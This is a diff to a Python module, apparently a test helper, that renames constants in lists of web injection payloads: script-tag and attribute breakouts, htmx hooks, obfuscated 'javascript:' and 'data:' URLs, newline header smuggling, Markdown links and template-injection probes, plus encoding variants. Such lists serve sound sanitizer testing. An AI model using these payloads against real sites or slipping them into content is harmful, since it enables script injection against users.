@@ -1,8 +1,8 @@
 """What people have tried to make a page run, as texts: markup, attributes, addresses, Markdown, templates."""
 
-RUN = "alert('n7')"
+CALL_OF_SCRIPT = "alert('n7')"
 
-MARKUP = (
+MARKUP_PAYLOADS = (
     "<script>{run}</script>",
     "</title><script>{run}</script>",
     "</textarea><script>{run}</script>",
@@ -49,7 +49,7 @@ MARKUP = (
     '" hx-get="//n7.example/" hx-trigger="load',
     '" hx-on::load="{run}',
 )
-ADDRESSES = (
+ADDRESS_PAYLOADS = (
     "javascript:{run}",
     " JaVa\tscript:{run}",
     "java\nscript:{run}",
@@ -71,7 +71,7 @@ ADDRESSES = (
     "tel:123\nX: y",
     "https://n7.example/" + "a" * 10_000,
 )
-MARKDOWN = (
+MARKDOWN_PAYLOADS = (
     "[n7](javascript:{run})",
     "![n7](javascript:{run})",
     '![n7](x "onerror={run}")',
@@ -80,7 +80,7 @@ MARKDOWN = (
     "[n7](data:text/html,<script>{run}</script>)",
     "`<script>{run}</script>`",
 )
-TEMPLATES = (
+TEMPLATE_PAYLOADS = (
     "{{{{ 7*7 }}}}",
     "{{% debug %}}",
     "${{{run}}}",
@@ -88,7 +88,7 @@ TEMPLATES = (
     "<%= {run} %>",
     "{{{{constructor.constructor('{run}')()}}}}",
 )
-WRITTEN = (
+TEXT_PAYLOADS = (
     str,
     str.upper,
     lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
@@ -100,10 +100,13 @@ WRITTEN = (
 )  # fmt: skip
 
 
-def addresses() -> list[str]:
-    return [text.format(run=RUN) for text in ADDRESSES]
+def address_payloads() -> list[str]:
+    return [text.format(run=CALL_OF_SCRIPT) for text in ADDRESS_PAYLOADS]
 
 
-def payloads() -> list[str]:
-    plain = [text.format(run=RUN) for text in (*MARKUP, *ADDRESSES, *MARKDOWN, *TEMPLATES)]
-    return list(dict.fromkeys(write(text) for write in WRITTEN for text in plain))
+def all_payloads() -> list[str]:
+    plain = [
+        text.format(run=CALL_OF_SCRIPT)
+        for text in (*MARKUP_PAYLOADS, *ADDRESS_PAYLOADS, *MARKDOWN_PAYLOADS, *TEMPLATE_PAYLOADS)
+    ]
+    return list(dict.fromkeys(write(text) for write in TEXT_PAYLOADS for text in plain))
